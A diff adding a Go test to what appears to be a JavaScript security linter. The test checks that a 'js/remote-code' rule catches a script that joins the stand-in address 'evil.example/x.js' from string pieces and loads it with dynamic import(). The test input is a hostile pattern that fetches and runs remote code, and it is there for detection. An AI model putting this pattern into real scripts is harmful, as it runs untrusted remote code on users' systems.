@@ -298,3 +298,12 @@ func TestBenignScriptsStayClean(t *testing.T) {
 		}
 	}
 }
+
+// A constant address reaches import() folded: the message names the
+// address, not "built at run time".
+func TestFoldedImportNamesTheAddress(t *testing.T) {
+	fs := lintScript(t, corpusManifest, `const u = "https://evil." + "example/x.js";`+"\nimport(u);"+keepPermissions)
+	if len(fs) != 1 || fs[0].Rule != "js/remote-code" || !strings.Contains(fs[0].Message, `import("https://evil.example/x.js")`) {
+		t.Fatalf("got %v", fs)
+	}
+}
